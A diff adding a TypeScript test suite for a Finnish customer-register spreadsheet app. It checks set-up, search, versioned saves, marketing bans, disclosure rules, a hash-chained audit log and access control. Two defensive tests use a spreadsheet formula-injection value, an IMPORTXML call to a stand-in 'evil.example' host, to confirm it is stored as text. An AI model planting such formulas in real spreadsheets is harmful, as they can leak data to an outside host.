@@ -1,0 +1,229 @@
+/**
+ * The register through the built bundle in the emulator: set-up, search, read, create, edit,
+ * actions, disclosures, the marketing list, the audit chain, manual edits and access.
+ */
+import * as path from 'node:path';
+import { Emulator } from '../../src/emulator/app';
+import { OWNER, STAFF, OUTSIDER } from '../../src/emulator/accounts';
+import { verifyChain, AuditEntry } from '../../src/core/audit';
+import { sha256Hex } from '../../src/core/sha256';
+
+const dist = path.resolve(__dirname, '../../dist');
+const demo = () => Emulator.open({ distDir: dist, stateFile: null, fresh: true });
+
+function call<T = Record<string, unknown>>(em: Emulator, fn: string, arg: unknown, user = STAFF): T {
+  const report = em.callFromClient(fn, arg === undefined ? [] : [arg], user);
+  if (!report.ok) throw new Error(report.error!.message);
+  return report.result as T;
+}
+
+function failure(em: Emulator, fn: string, arg: unknown, user = STAFF): string {
+  const report = em.callFromClient(fn, arg === undefined ? [] : [arg], user);
+  if (report.ok) throw new Error(`${fn} was expected to fail`);
+  return report.error!.message;
+}
+
+function auditEntries(em: Emulator): AuditEntry[] {
+  const snap = em.world.spreadsheet.snapshot('Lokitiedot')!;
+  const [, ...rows] = snap.values as string[][];
+  return rows.filter((r) => r[0] !== '').map(([at, actor, action, customerNumber, fields, requestId, prevHash, hash]) =>
+    ({ at, actor, action, customerNumber, fields, requestId, prevHash, hash }) as AuditEntry);
+}
+
+const maija = {
+  name: 'Maija Meikäläinen', email: ' Maija.Meikalainen@Example.FI ', phone: '040 123 4567', street: 'Hämeenkatu 1 A 2',
+  postalCode: '00100', city: 'Tampere', country: 'FI', marketingBasis: 'consent', marketingConsentAt: '2026-11-01',
+};
+
+describe('set-up', () => {
+  test('set-up on an empty spreadsheet creates the tabs with Finnish headers and makes the caller the first admin', () => {
+    const em = Emulator.open({ distDir: dist, stateFile: null, fresh: true, seed: false });
+    const result = call<{ createdTabs: string[]; firstAdmin: string }>(em, 'setUp', {}, OWNER);
+    expect(result.createdTabs).toEqual(['Rekisteri', 'Pyynnöt', 'Luovutukset', 'Lokitiedot']);
+    expect(result.firstAdmin).toBe(OWNER);
+    const register = em.world.spreadsheet.snapshot('Rekisteri')!;
+    expect((register.values[0] as string[]).slice(0, 3)).toEqual(['Asiakasnumero', 'Rooli', 'Asiakastyyppi']);
+    expect(register.protections.length).toBe(1);
+    expect(em.world.triggers.map((t) => t.handlerFunction)).toEqual(['onRegisterEdit']);
+  });
+
+  test('set-up in Swedish names the tabs and headers in Swedish', () => {
+    const em = Emulator.open({ distDir: dist, stateFile: null, fresh: true, seed: false });
+    call(em, 'setUp', { language: 'sv' }, OWNER);
+    expect(em.world.spreadsheet.sheetNames()).toEqual(expect.arrayContaining(['Register', 'Begäranden', 'Utlämnanden', 'Logg']));
+  });
+
+  test('running set-up again repairs a missing column and leaves every data cell as it was', () => {
+    const em = demo();
+    const before = em.world.spreadsheet.snapshot('Rekisteri')!.values;
+    const sheet = em.world.spreadsheet.snapshot('Rekisteri')!;
+    const col = (sheet.values[0] as string[]).indexOf('Postitoimipaikka') + 1;
+    expect(em.editCell(OWNER, 'Rekisteri', 1, col, 'Kaupunki').ok).toBe(true);
+    expect(failure(em, 'searchCustomers', { query: 'a' })).toMatch(/puuttuu sarake: Postitoimipaikka/);
+    const result = call<{ addedColumns: string[] }>(em, 'setUp', {}, OWNER);
+    expect(result.addedColumns).toEqual(['Rekisteri: Postitoimipaikka']);
+    const after = em.world.spreadsheet.snapshot('Rekisteri')!.values;
+    for (let r = 1; r < before.length; r++) expect(after[r].slice(0, before[r].length)).toEqual(before[r]);
+  });
+
+  test('only an admin may run set-up again', () => {
+    expect(failure(demo(), 'setUp', {}, STAFF)).toMatch(/vain ylläpitäjille/);
+  });
+});
+
+describe('search, read and save', () => {
+  test('search finds people by partial name, accent-insensitively', () => {
+    const em = demo();
+    const created = call<{ customer: { customerNumber: string } }>(em, 'saveCustomer', { customer: maija });
+    const { customers } = call<{ customers: { customerNumber: string }[] }>(em, 'searchCustomers', { query: 'meikala' });
+    expect(customers.map((c) => c.customerNumber)).toContain(created.customer.customerNumber);
+    const byPhone = call<{ customers: { customerNumber: string }[] }>(em, 'searchCustomers', { query: '0401234567' });
+    expect(byPhone.customers.map((c) => c.customerNumber)).toContain(created.customer.customerNumber);
+  });
+
+  test('a new person is normalised, numbered after the seeded ones, and stored literally', () => {
+    const em = demo();
+    const { customer } = call<{ customer: Record<string, unknown> }>(em, 'saveCustomer', { customer: maija });
+    expect(customer).toMatchObject({ customerNumber: '100201', email: 'Maija.Meikalainen@example.fi', phone: '+358401234567', postalCode: '00100', version: 1 });
+    const got = call<{ customer: Record<string, unknown> }>(em, 'getCustomer', { customerNumber: '100201' });
+    expect(got.customer).toEqual(customer);
+  });
+
+  test('creating a person whose email is registered returns the existing record instead of a duplicate', () => {
+    const em = demo();
+    const first = call<{ customer: { customerNumber: string } }>(em, 'saveCustomer', { customer: maija });
+    const again = call<{ customer: { customerNumber: string }; duplicate: boolean }>(em, 'saveCustomer', {
+      customer: { ...maija, email: 'MAIJA.MEIKALAINEN@example.fi', phone: '' },
+    });
+    expect(again.duplicate).toBe(true);
+    expect(again.customer.customerNumber).toBe(first.customer.customerNumber);
+  });
+
+  test('customer numbers are never reused, even after the last row is deleted', () => {
+    const em = demo();
+    const a = call<{ customer: { customerNumber: string } }>(em, 'saveCustomer', { customer: maija });
+    em.world.spreadsheet.snapshot('Rekisteri');
+    const b = call<{ customer: { customerNumber: string } }>(em, 'saveCustomer', { customer: { name: 'Toinen Henkilö' } });
+    expect(Number(b.customer.customerNumber)).toBe(Number(a.customer.customerNumber) + 1);
+  });
+
+  test('a stale edit is refused and nothing is overwritten', () => {
+    const em = demo();
+    const { customer } = call<{ customer: Record<string, unknown> & { customerNumber: string; version: number } }>(em, 'getCustomer', { customerNumber: '100001' }, STAFF);
+    call(em, 'saveCustomer', { customer: { ...customer, city: 'Turku' }, expectedVersion: customer.version }, OWNER);
+    const message = failure(em, 'saveCustomer', { customer: { ...customer, city: 'Oulu' }, expectedVersion: customer.version }, STAFF);
+    expect(message).toMatch(/muutettiin sillä välin/);
+    expect(call<{ customer: { city: string; version: number } }>(em, 'getCustomer', { customerNumber: '100001' }).customer).toMatchObject({ city: 'Turku', version: customer.version + 1 });
+  });
+
+  test('bad input is refused with a message naming the field, and nothing is written', () => {
+    const em = demo();
+    const before = JSON.stringify(em.world.spreadsheet.snapshot('Rekisteri')!.values);
+    expect(failure(em, 'saveCustomer', { customer: { ...maija, email: 'ei-osoite' } })).toMatch(/Sähköposti: /);
+    expect(JSON.stringify(em.world.spreadsheet.snapshot('Rekisteri')!.values)).toBe(before);
+  });
+
+  test('a formula-like name is stored as literal text, never as a formula', () => {
+    const em = demo();
+    const { customer } = call<{ customer: { customerNumber: string; name: string } }>(em, 'saveCustomer', { customer: { name: '=IMPORTXML("http://evil.example","//a")' } });
+    expect(customer.name).toBe('=IMPORTXML("http://evil.example","//a")');
+    const snap = em.world.spreadsheet.snapshot('Rekisteri')!;
+    expect(snap.formulas.flat().filter((f) => f !== '')).toEqual([]);
+    expect(call<{ customer: { name: string } }>(em, 'getCustomer', { customerNumber: customer.customerNumber }).customer.name).toBe(customer.name);
+  });
+});
+
+describe('actions, disclosures and the marketing list', () => {
+  test('a marketing ban removes the person from the marketing list', () => {
+    const em = demo();
+    const { customer } = call<{ customer: { customerNumber: string; email: string } }>(em, 'saveCustomer', { customer: maija });
+    expect(call<{ csv: string }>(em, 'exportMarketingList', {}).csv).toContain(customer.email);
+    call(em, 'banMarketing', { customerNumber: customer.customerNumber });
+    expect(call<{ csv: string }>(em, 'exportMarketingList', {}).csv).not.toContain(customer.email);
+  });
+
+  test('a disclosure to a recipient outside the EU/EEA is refused without the written transfer request', () => {
+    const em = demo();
+    const message = failure(em, 'recordDisclosure', {
+      customerNumber: '100001', recipient: 'Acme Inc.', recipientCountry: 'US', basis: 'consent', basisReference: 'REQ-1', dataCategories: ['name'],
+    });
+    expect(message).toMatch(/EU:n ja ETA:n ulkopuolella/);
+    expect((em.world.spreadsheet.snapshot('Luovutukset')!.values as unknown[][]).filter((r) => r[0] !== '')).toHaveLength(1);
+  });
+
+  test('a disclosure with an authority basis is recorded and logged', () => {
+    const em = demo();
+    const { disclosure } = call<{ disclosure: { id: string } }>(em, 'recordDisclosure', {
+      customerNumber: '100001', recipient: 'Poliisi', recipientCountry: 'FI', basis: 'authority', basisReference: 'POL-2026-123', dataCategories: ['name', 'phone'],
+    });
+    expect(disclosure.id).toMatch(/^D-/);
+    expect(auditEntries(em).map((e) => `${e.action}:${e.fields}`)).toContain('disclosure:name,phone');
+  });
+});
+
+describe('the audit log', () => {
+  test('every change is logged with actor, action, customer number and field names, never values, in a valid chain', () => {
+    const em = demo();
+    const { customer } = call<{ customer: { customerNumber: string; version: number } }>(em, 'saveCustomer', { customer: maija });
+    call(em, 'saveCustomer', { customer: { customerNumber: customer.customerNumber, city: 'Helsinki' }, expectedVersion: customer.version });
+    call(em, 'exportMarketingList', {});
+    const entries = auditEntries(em);
+    expect(entries.map((e) => e.action)).toEqual(['create', 'update', 'export-marketing']);
+    expect(entries[1]).toMatchObject({ actor: STAFF, customerNumber: customer.customerNumber, fields: 'city' });
+    expect(JSON.stringify(entries)).not.toMatch(/Helsinki|Meikäläinen|358401234567/);
+    expect(verifyChain(entries, sha256Hex)).toEqual({ ok: true });
+  });
+
+  test('editing an audit row by hand breaks the chain where it was edited', () => {
+    const em = demo();
+    call(em, 'saveCustomer', { customer: maija });
+    call(em, 'exportMarketingList', {});
+    em.editCell(OWNER, 'Lokitiedot', 2, 2, 'someone@else.fi');
+    expect(verifyChain(auditEntries(em), sha256Hex)).toMatchObject({ ok: false, index: 0 });
+  });
+});
+
+describe('manual edits in the register tab', () => {
+  test('a valid manual edit is normalised, versioned and logged as a manual edit', () => {
+    const em = demo();
+    const sheet = em.world.spreadsheet.snapshot('Rekisteri')!;
+    const header = sheet.values[0] as string[];
+    const phoneCol = header.indexOf('Matkapuhelin') + 1;
+    const versionBefore = (sheet.values[1] as unknown[])[header.indexOf('Versio')];
+    const edit = em.editCell(STAFF, 'Rekisteri', 2, phoneCol, '050 765 4321');
+    expect(edit.reports.every((r) => r.ok)).toBe(true);
+    const after = em.world.spreadsheet.snapshot('Rekisteri')!.values[1] as unknown[];
+    expect(after[phoneCol - 1]).toBe('+358507654321');
+    expect(after[header.indexOf('Versio')]).toBe(Number(versionBefore) + 1);
+    expect(auditEntries(em).pop()).toMatchObject({ action: 'manual-edit', actor: STAFF, customerNumber: '100001', fields: 'phone' });
+  });
+
+  test('a formula typed into the register is put back as it was and the editor is told why', () => {
+    const em = demo();
+    const header = em.world.spreadsheet.snapshot('Rekisteri')!.values[0] as string[];
+    const emailCol = header.indexOf('Sähköposti') + 1;
+    const before = (em.world.spreadsheet.snapshot('Rekisteri')!.values[1] as unknown[])[emailCol - 1];
+    em.editCell(STAFF, 'Rekisteri', 2, emailCol, '=IMPORTXML("http://evil.example","//a")');
+    const snap = em.world.spreadsheet.snapshot('Rekisteri')!;
+    expect(snap.formulas.flat().filter((f) => f !== '')).toEqual([]);
+    expect((snap.values[1] as unknown[])[emailCol - 1]).toBe(before);
+    expect(em.world.uiFor(STAFF).toasts.length + em.world.uiFor(OWNER).toasts.length).toBeGreaterThan(0);
+  });
+});
+
+describe('access', () => {
+  const calls: [string, unknown][] = [
+    ['searchCustomers', { query: 'a' }], ['getCustomer', { customerNumber: '100001' }], ['saveCustomer', { customer: maija }],
+    ['exportMarketingList', {}], ['banMarketing', { customerNumber: '100001' }], ['getSidebarInfo', undefined],
+    ['recordDisclosure', { customerNumber: '100001', recipient: 'X', recipientCountry: 'FI', basis: 'authority', basisReference: 'Y', dataCategories: ['name'] }],
+  ];
+  test.each(calls)('an outsider calling %s gets no data and changes nothing', (fn, arg) => {
+    const em = demo();
+    const before = JSON.stringify(em.world.spreadsheet.toJSON());
+    const report = em.callFromClient(fn, arg === undefined ? [] : [arg], OUTSIDER);
+    expect(report.ok).toBe(false);
+    expect(report.error!.message).toMatch(/ei ole oikeutta|permission/);
+    expect(JSON.stringify(report)).not.toMatch(/@gmail\.com|\+358\d/);
+    expect(JSON.stringify(em.world.spreadsheet.toJSON())).toBe(before);
+  });
+});
